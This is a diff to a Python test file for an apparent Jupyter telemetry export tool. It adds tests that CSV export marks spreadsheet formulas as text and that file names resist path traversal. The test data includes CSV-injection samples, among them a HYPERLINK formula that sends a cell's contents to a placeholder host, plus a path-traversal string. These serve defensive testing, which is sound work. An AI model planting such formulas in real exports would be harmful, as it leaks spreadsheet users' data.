@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import hmac
 import json
@@ -235,7 +236,11 @@ def test_export_csv_with_an_included_category(recorded: Path) -> None:
         (["--format", "xml"], 2, "format"),
         (["--format", "parquet", "--salt", "short"], 2, "--salt: at least 16 characters"),
         (["--format", "parquet", "--salt", "env:NO_SUCH_SALT"], 2, "variable is empty or not set"),
-        (["--format", "parquet", "--since", "2030-01-01"], 1, "no events to export"),
+        (
+            ["--format", "parquet", "--since", "2030-01-01"],
+            1,
+            "no events received at or after 2030-01-01T00:00:00+00:00 in ",
+        ),
         (["--format", "parquet", "--schema", "a", "--schema", "b"], 2, "one schema id"),
         (["--user", "alice", "--since", "7d"], 2, "two exports: give one"),
     ],
@@ -303,3 +308,58 @@ def test_dataset_file_names_are_plain_and_distinct() -> None:
     assert all(n.startswith("cell-") and n.endswith("-v1.csv") for n in cells)
     assert "/" not in names[("../../etc/..", "1/../2")]
     assert not names[("../../etc/..", "1/../2")].startswith(".")
+
+
+def test_export_exits_1_when_the_schema_matches_nothing_naming_it_and_the_logs(
+    recorded: Path,
+) -> None:
+    done = export(recorded, "ds", "--format", "csv", "--schema", "nosuch", "--until", "2030-01-01")
+    assert (done.returncode, done.stdout) == (1, "")
+    assert done.stderr == (
+        "jupyter telemetry: export: no events of schema 'nosuch' received before "
+        f"2030-01-01T00:00:00+00:00 in {recorded}: nothing was written\n"
+    )
+    assert not (recorded.parent.parent / "ds").exists()
+
+
+# Values a user could post that a spreadsheet would run (or read as a sum), and plain ones.
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx",
+            "\rx"]  # fmt: skip
+PLAIN = ["python3", "a=b", "'quoted", ""]
+NAMED = {"$id": "test.analysis/named", "version": 1, "title": "Named", "description": "Names.",
+         "type": "object", "properties": {
+             "name": {"type": "string", "categories": ["unrestricted"]},
+             "n": {"type": "integer", "categories": ["unrestricted"]}}}  # fmt: skip
+
+
+def test_the_csv_export_marks_a_formula_as_text_as_the_dashboard_does(tmp_path: Path) -> None:
+    from jupyter_telemetry_ext.core.spreadsheet import neutralised
+
+    log = tmp_path / "events.log"
+    handler = logging.FileHandler(log)
+    allowed = {NAMED["$id"]: {"allowed_categories": ["unrestricted"]}}
+    eventlog = EventLog(handlers=[handler], allowed_schemas=allowed)
+    eventlog.register_schema(NAMED)
+    for n, name in enumerate(FORMULAS + PLAIN):
+        eventlog.record_event(NAMED["$id"], 1, {"name": name, "n": -n}, START + timedelta(hours=n))
+    eventlog.close()
+    handler.close()
+    (tmp_path / "schemas").mkdir()
+    (tmp_path / "schemas" / "named.json").write_text(json.dumps(NAMED))
+    config = f"c.TelemetryExtension.schema_paths = [{str(tmp_path / 'schemas')!r}]\n"
+    (tmp_path / "config.py").write_text(config)
+    for fmt in ("csv", "parquet"):
+        done = run("export", "--config", "config.py", "--out", fmt, "--format", fmt, str(log),
+                   cwd=tmp_path)  # fmt: skip
+        assert done.returncode == 0, done.stderr
+    with (tmp_path / "csv" / "named-v1.csv").open(encoding="utf-8", newline="") as f:
+        cells = list(csv.DictReader(f))
+    marked = ["'" + name for name in FORMULAS]
+    assert [row["name"] for row in cells] == marked + PLAIN
+    assert [neutralised(name) for name in FORMULAS + PLAIN] == marked + PLAIN  # the same rule
+    assert [row["n"] for row in cells] == [str(-n) for n in range(len(cells))]  # numbers as is
+    sheet = (tmp_path / "csv" / "datasheet.md").read_text()
+    assert "starts with a `'` in these CSV files" in sheet
+    table = pq.read_table(tmp_path / "parquet" / "named-v1.parquet")
+    assert table.column("name").to_pylist() == FORMULAS + PLAIN  # Parquet: as recorded
+    assert "these CSV files" not in (tmp_path / "parquet" / "datasheet.md").read_text()
